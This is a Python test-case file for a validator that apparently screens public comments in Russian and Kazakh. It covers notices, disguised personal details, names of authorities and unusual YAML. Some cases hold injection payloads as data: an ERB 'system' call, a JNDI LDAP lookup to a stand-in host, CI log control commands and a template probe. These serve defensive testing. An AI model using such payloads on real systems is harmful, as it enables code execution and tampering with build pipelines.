"""What comments say in ways that came later: voices, private things, seats of power, odd YAML."""

from gate_cases.building import PLACE
from gate_cases.making import Case, at, named, plain, raw, says


def without(key: str, line: str) -> str:
    return plain(**{key: None}) + line + "\n"


NEWER_TEXTS = (
    *(
        Case(f"a notice, {text!r}", says(text), "P:G22")
        for text in (
            "Проект стандарта снят с обсуждения до особого распоряжения.",
            "Адрес для замечаний изменился: пишите на новую почту.",
            "Комментарий перемещён в другой раздел.",
            "Министр сообщает об отмене обсуждения.",
        )
    ),
    Case("a notice in Kazakh", says("Талқылау басқа порталға көшірілді.", language="kk"), "P:G22"),
    Case(
        "a comment that is gone in Kazakh", says("Пікірді модератор жойды.", language="kk"), "P:G22"
    ),
    *(
        Case(f"a private thing, {text!r}", says(f"Прошу сократить срок. {text}"), found)
        for text, found in (
            ("Пишите: vk.com/id12345678", "P:G18"),
            ("Моя страница instagram.com/aigul_beauty", "P:G18"),
            ("Абай көшесі, 12-үй, бесінші пәтер", "P:G18"),
            ("Живу: с. Үлгі, ул. Школьная, дом 5", "P:G18"),
            ("VIII 7o1 123 45 67", "P:G18"),
            ("8 сeмьсот один 123 45 67", "P:G18"),
            ("Номер девятьсот девяносто тысяч сто один, триста тысяч сто двадцать два", "F:G17"),
            ("nine nine zero one zero one three zero zero one two two", "F:G17 W:G15"),
            (
                "девятка девятка ноль единица ноль единица тройка ноль ноль единица двойка двойка",
                "F:G17",
            ),
        )
    ),
    *(
        Case(f"a sign of a program, {text!r}", says(f"Прошу сократить срок. {text}"), "F:G20")
        for text in (
            "<%= system('id') %>",
            "##vso[task.complete] Дом",
            "##[error]отклонено",
            "##teamcity[buildStatus status='SUCCESS']",
            "section_start:1560896352:x",
            "\\e[31mкрасное",
            "${jndi:ldap://x.example/a}",
        )
    ),
    *(
        Case(f"a seat of power, {name!r}", named(name), found)
        for name, found in (
            ("Ақорда", "F:G22"),
            ("Уәкілетті орган", "F:G22"),
            ("Мәжіліс депутаты", "F:G22"),
            ("Д-т юстиции г. Алматы", "P:G22"),
            ("Депутат Ахметов", "P:G22"),
            ("Аудандық сот", "P:G22"),
            ("И. о. акима района", "P:G22"),
        )
    ),
    Case("a command as a name", named("##vso[task.complete]"), "F:G20 P:G22"),
    Case("a template as a name", named("{{ config }}"), "F:G20 P:G22"),
)

NEWER_YAML = (
    Case("a tag of bytes", raw(without("text", "text: !!binary 0J/RgNC+0YjRgw==")), "F:F15"),
    Case(
        "a tag written in full", raw(without("text", "text: !<tag:yaml.org,2002:str> x")), "F:F15"
    ),
    Case("a tag of a key", raw(without("text", "!!str text: Прошу сократить срок.")), "F:F15"),
    Case("an anchor of a key", raw(without("text", "&x text: Прошу сократить срок.")), "F:F13"),
    Case("a name for tags", raw("%TAG ! tag:x.example,2026:\n---\n" + plain()), "F:F21"),
    Case("a tagged key to merge", raw(plain() + "!!merge <<: {kind: support}\n"), "F:F15"),
    Case("keys to merge from a list", raw(plain() + "<<: [{kind: support}]\n"), "F:F31"),
    Case("a set", raw(plain(author=None) + "author: !!set {kind}\n"), "F:F15"),
    Case("a key of nothing", raw(plain() + "~: x\n"), "F:F31"),
    Case("a key with a space behind it", raw(plain() + '"text ": x\n'), "F:F31"),
    Case("a decision of its own", at(PLACE, outcome="accepted"), "F:G16"),
    Case("a place where it landed", at(PLACE, landed={"revision": "2"}), "F:G16"),
    Case("words that were taken out before", at(PLACE, redacted={"on": "2026-11-10"}), "F:F30"),
    Case(
        "an author who is proven",
        at(PLACE, author={"kind": "individual", "verified": "true"}),
        "F:F31",
    ),
    Case(
        "a pointer of LFS with more lines",
        raw(
            "version https://git-lfs.github.com/spec/v1\next-0-x sha256:00\n"
            f"oid sha256:{'0' * 64}\nsize 12\n"
        ),
        "F:G07",
    ),
)
